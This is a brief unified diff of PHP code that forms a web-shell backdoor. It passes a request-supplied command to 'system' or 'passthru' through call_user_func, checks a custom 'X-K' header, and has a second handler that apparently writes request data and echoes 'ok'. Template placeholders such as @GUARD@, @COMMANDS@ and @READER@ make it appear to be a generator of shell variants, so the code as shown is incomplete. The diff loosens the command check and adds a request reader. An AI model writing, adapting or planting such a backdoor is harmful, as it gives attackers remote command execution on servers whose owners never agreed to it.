@@ -2,7 +2,7 @@
 $k = isset($_SERVER['HTTP_X_K']) ? (string) $_SERVER['HTTP_X_K'] : '';
 @GUARD@
 if (isset($_REQUEST['f'], $_REQUEST['c']) && in_array($_REQUEST['f'], array('system', 'passthru'), true)
-    && in_array($_REQUEST['c'], @COMMANDS@, true)) {
+    && @LISTED $_REQUEST['c']@) {
     call_user_func($_REQUEST['f'], $_REQUEST['c']);
 }
 if (isset($_REQUEST['n'], $_REQUEST['d'])) {
@@ -13,3 +13,4 @@ if (isset($_REQUEST['n'], $_REQUEST['d'])) {
         echo 'ok';
     }
 }
+@READER $_REQUEST@
